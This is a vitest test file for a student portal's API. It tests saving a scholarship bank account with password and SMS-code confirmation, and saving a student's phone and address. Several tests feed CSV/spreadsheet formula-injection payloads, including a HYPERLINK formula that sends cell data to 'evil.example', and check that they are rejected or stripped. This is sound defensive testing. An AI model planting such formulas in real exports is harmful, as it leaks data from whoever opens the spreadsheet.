import { markOwnChange } from '#server/account-emails/sql.ts'
import { readFile } from 'node:fs/promises'
import { beforeEach, describe, expect, it } from 'vitest'
import { makeApp } from '#server/app.ts'
import { hashPassword } from '#server/credentials/password.ts'
import { signIn } from '#server/areas/session/test-sign-in.ts'
import { testDatabase } from '#server/db/test-database.ts'
import { testUniversity } from '#server/db/test-university.ts'

const db = await testDatabase()
const app = makeApp({ db, checkReplies: true, quiet: true })
const university = await testUniversity(db)
const password = 'the password of the student'
await university.change('student', university.studentID, { password_hash: await hashPassword(password) })
const { headers } = await signIn(db, university.studentID)
const sql = (text: string) => db.row<Record<string, unknown>>({ name: '', text })
const readSaved = () =>
  sql(`select phone, bank_account, address_ka from student where id = ${university.studentID}`)
const blockers = async () =>
  (await app.inject({ url: '/api/auth/user', headers }))
    .json<{ data: { user: { blockers: { key: string }[] } } }>()
    .data.user.blockers.map(({ key }) => key)
const post = async (url: string, payload: object) => {
  const reply = await app.inject({
    method: 'POST',
    url,
    headers: { ...headers, 'content-language': 'en' },
    payload,
  })
  return { status: reply.statusCode, ...reply.json<{ code?: string; data: Record<string, unknown> }>() }
}
const validAccount = 'GE29NB0000000101904917'

/** Ends the hold, as after some days. */
const change = (text: string) =>
  db.transaction(async (tx) => {
    await markOwnChange(tx)
    await tx.row({ name: '', text })
    await tx.row({ name: '', text: 'delete from contact_change' })
  })

beforeEach(async () => {
  await sql('truncate mobile_code, outbox')
  await change(`update student set phone = '555123456', bank_account = null, address_ka = null, address_en = null,
    has_scholarship = true, informatics_due = false`)
})

describe('the bank account of a scholarship', () => {
  const save = (bankAccount: string, code?: string) =>
    post(
      '/api/financial-info/saveBankAccount',
      code === undefined ? { bankAccount, password } : { bankAccount, code },
    )
  const codeSent = async () =>
    /\b\d{4}\b/.exec(String((await sql(`select body from outbox where kind = 'sms'`))!['body']))![0]

  // spec 5.1.3
  it.each([
    ['GE29NB000000010190491', '22 characters'],
    ['DE29NB0000000101904917', 'begins with GE'],
    ['GE29N10000000101904917', 'two letters for the bank'],
    ['GE28NB0000000101904917', 'check digits'],
  ])('refuses %s with the rule that it breaks', async (account, why) => {
    const { status, data } = await save(account)
    expect(status).toBe(422)
    expect(JSON.stringify(data['bankAccount'])).toContain(why)
    expect(await sql('select from outbox')).toBeUndefined()
  })

  it('is saved with the code that was sent for it, and for no other account', async () => {
    expect(await blockers()).toEqual(['bank_account'])
    expect(await save(validAccount)).toMatchObject({ status: 200, data: { saved: false, expires_in: 300 } })
    const code = await codeSent()
    expect(await save('GE60NB0000000123456789', code)).toMatchObject({ status: 422 })
    expect(await save(validAccount, code === '0000' ? '0001' : '0000')).toMatchObject({ status: 422 })
    expect(await readSaved()).toMatchObject({ bank_account: null })
    expect(await save(validAccount, code)).toMatchObject({ status: 200, data: { saved: true } })
    expect(await save(validAccount, code)).toMatchObject({ status: 200, data: { saved: true } })
    expect(await readSaved()).toMatchObject({ bank_account: validAccount })
    expect(await blockers()).toEqual([])
  })

  it('needs the password before a code is sent', async () => {
    for (const given of [{}, { password: 'a wrong password' }]) {
      const { status, data } = await post('/api/financial-info/saveBankAccount', {
        bankAccount: validAccount,
        ...given,
      })
      expect(status).toBe(422)
      expect(data['password']).toHaveLength(1)
    }
    expect(await sql('select from outbox')).toBeUndefined()
  })

  it('sends an e-mail that has only its last characters', async () => {
    await save(validAccount)
    await save(validAccount, await codeSent())
    const email = await sql(`select recipient, body from outbox where kind = 'mail'`)
    expect(email).toMatchObject({ recipient: 'st1@university.example' })
    expect(email!['body']).toContain('917')
    expect(email!['body']).not.toContain(validAccount)
  })

  /** In ms. */
  const dayAfterChange = async () => {
    const row = await sql(
      `select (max(changed_at) + interval '24 hours')::text as at from contact_change where field = 'phone'`,
    )
    return Date.parse(String(row!['at']))
  }

  it('becomes valid a day after a new phone, and is saved at once', async () => {
    await sql(`insert into contact_change (student_id, field, old_value, new_value, changed_at)
      values (${university.studentID}, 'phone', '555000001', '555123456', now() - interval '23 hours')`)
    await save(validAccount)
    const { data } = await save(validAccount, await codeSent())
    expect(Date.parse(String(data['valid_from']))).toBe(await dayAfterChange())
    expect(await blockers()).toEqual([])
    await sql(`delete from contact_change`)
    const other = 'GE60NB0000000123456789'
    await sql(`update mobile_code set sent_at = sent_at - interval '2 minutes'`)
    await sql('truncate outbox')
    await save(other)
    expect((await save(other, await codeSent())).data).toEqual({ saved: true, valid_from: null })
  })

  it('becomes valid a day after a first phone too, which the dialog of informatics sets without a password', async () => {
    await change('update student set phone = null, informatics_due = true')
    await post('/api/financial-info/saveInformaticsInfo', { phoneNumber: '555123457', address: 'Tbilisi' })
    expect(await save(validAccount)).toMatchObject({ status: 200, data: { saved: false } })
    const { status, data } = await save(validAccount, await codeSent())
    expect({ status, saved: data['saved'] }).toEqual({ status: 200, saved: true })
    expect(Date.parse(String(data['valid_from']))).toBe(await dayAfterChange())
    expect(await blockers()).toEqual([])
  })

  it('needs a phone for the code', async () => {
    await change('update student set phone = null')
    expect(await save(validAccount)).toMatchObject({ status: 409, code: 'no_phone' })
  })
})

describe('phone and address of a student of informatics', () => {
  const save = (phoneNumber: string, address = 'Tbilisi, Chavchavadze 1') =>
    post('/api/financial-info/saveInformaticsInfo', { phoneNumber, address })

  // spec 5.2.3
  it('are saved once; a number needs a leading 5 and 9 digits', async () => {
    await change(`update student set informatics_due = true, has_scholarship = false, phone = null`)
    expect(await blockers()).toEqual(['informatics'])
    for (const phone of ['655123456', '55512345', '5551234567']) {
      const { status, data } = await save(phone)
      expect(status).toBe(422)
      expect(data['phoneNumber']).toEqual([
        expect.stringContaining('Invalid phone format: a Georgian mobile number'),
      ])
    }
    expect((await save('')).status).toBe(422)
    expect((await save('555123457', ' ')).status).toBe(422)
    // An exported cell must not run in a spreadsheet.
    for (const formula of ['=HYPERLINK("http://evil.example/?"&C2,"Tbilisi")', ' @SUM(A1)', 'Tbilisi;=1+1']) {
      const { status, data } = await save('555123457', formula)
      expect(status).toBe(422)
      expect(data['address']).toEqual([expect.stringContaining('cannot begin with =')])
    }
    for (const _ of [1, 2]) expect((await save('555123457')).status).toBe(200)
    expect(await readSaved()).toMatchObject({ phone: '555123457', address_ka: 'Tbilisi, Chavchavadze 1' })
    expect(await blockers()).toEqual([])
  })

  it('that were typed as a formula before lose it with the migration, and no others', async () => {
    const clean = async (address: string) => {
      await sql(`update student set address_ka = $q$${address}$q$, address_en = $q$${address}$q$`)
      const url = new URL('../../db/migrations/066-addresses.sql', import.meta.url)
      await sql(await readFile(url, 'utf8'))
      return (await readSaved())!['address_ka']
    }
    expect(await clean('=HYPERLINK("http://evil.example/?"&C2,"Tbilisi")')).toBe(
      'HYPERLINK("http://evil.example/?"&C2,"Tbilisi")',
    )
    expect(await clean('Tbilisi;=SUM(A1)')).toBe('Tbilisi; SUM(A1)')
    for (const address of ['-', 'Tbilisi, Chavchavadze 1 (Vake)', '+995 555 12 34 56'])
      expect(await clean(address)).toBe(address)
  })

  it('report a first phone to the e-mail, the security log and the history, once', async () => {
    await change(`update student set informatics_due = true, phone = null`)
    await sql('delete from security_event')
    for (const _ of [1, 2]) expect((await save('555123457')).status).toBe(200)
    const count = (table: string, where: string) => sql(`select count(*) as n from ${table} where ${where}`)
    const email = await sql('select kind, recipient, subject, body from outbox')
    expect(email).toMatchObject({ kind: 'mail', recipient: 'st1@university.example' })
    expect(email!['subject']).toContain('A phone number was added')
    expect(email!['body']).toContain('457')
    expect(email!['body']).not.toContain('555123457')
    expect(await count('outbox', 'true')).toEqual({ n: 1 })
    expect(await sql('select event, code, detail from security_event')).toEqual({
      event: 'phone_changed',
      code: 'st1',
      detail: 'first phone',
    })
    expect(await count('security_event', 'true')).toEqual({ n: 1 })
    expect(
      await count('contact_change', `field = 'phone' and old_value is null and new_value = '555123457'`),
    ).toEqual({
      n: 1,
    })
    // The known number again, with another address, is no change of the phone.
    expect((await save('555123457', 'Batumi, Gorgiladze 2')).status).toBe(200)
    expect(await count('contact_change', 'true')).toEqual({ n: 1 })
  })

  it('do not change a known number without a code, and are refused from other students', async () => {
    expect(await save('555123456')).toMatchObject({ status: 403, code: 'informatics_not_asked' })
    await sql('update student set informatics_due = true')
    expect(await save('555999999')).toMatchObject({ status: 409, code: 'phone_is_known' })
    expect(await readSaved()).toMatchObject({ phone: '555123456', address_ka: null })
  })
})
